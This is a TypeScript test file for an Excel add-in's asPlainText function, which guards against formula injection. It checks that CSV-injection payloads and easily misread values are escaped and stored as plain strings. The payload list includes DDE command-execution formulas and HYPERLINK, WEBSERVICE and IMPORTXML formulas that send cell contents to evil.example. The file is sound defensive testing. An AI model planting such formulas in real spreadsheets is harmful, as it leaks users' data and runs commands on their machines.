import { asPlainText } from "../../../src/excel/sheets/asPlainText";
import { openWorkbook, type OfficeInNode } from "../../support/officeInNode";

/** OWASP, "CSV Injection": what a cell must not begin with, and payloads from there and from PayloadsAllTheThings. */
const INJECTIONS = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1"],
  ...["＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1"],
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "=1+1+cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"!A0")A0',
  "-2+3+cmd|' /C calc'!A0",
];
/** Text that Excel would take for something else than text. */
const MISREAD = [
  ...["360", "1-2", "3/4", "May 2025", "2025-09-22", "10%", "$5", "(5)", "1e5", "TRUE", "false"],
  ...["'t Hooft", "''", "'", "12:30"],
];
const WORDS = ["Nvidia", "Société Générale", "日本", "xAI", "letter of intent", ""];

describe("asPlainText(text)", () => {
  test.each([...INJECTIONS, ...MISREAD, "#N/A"])("puts an apostrophe before %p", (text) => {
    expect(asPlainText(text)).toBe(`'${text}`);
  });

  test.each(WORDS)("leaves %p as it is", (text) => {
    expect(asPlainText(text)).toBe(text);
  });

  describe("written to cells", () => {
    let office: OfficeInNode;
    const texts = [...INJECTIONS, ...MISREAD, ...WORDS.filter((text) => text !== "")];

    beforeAll(async () => {
      office = await openWorkbook();
      await Excel.run(async (context) => {
        const range = context.workbook.worksheets.getItem("Sheet1").getRange(`A1:A${texts.length}`);
        range.values = texts.map((text) => [asPlainText(text)]);
        await context.sync();
      });
      await office.idle();
    });
    afterAll(() => {
      office.dispose();
    });

    test("is there as exactly the same text, and no formula", async () => {
      await Excel.run(async (context) => {
        const range = context.workbook.worksheets.getItem("Sheet1").getRange(`A1:A${texts.length}`);
        range.load("values, valueTypes");
        await context.sync();
        expect(range.values.map(([cell]) => cell as unknown)).toEqual(texts);
        expect(new Set(range.valueTypes.flat())).toEqual(new Set(["String"]));
      });
    });
  });
});
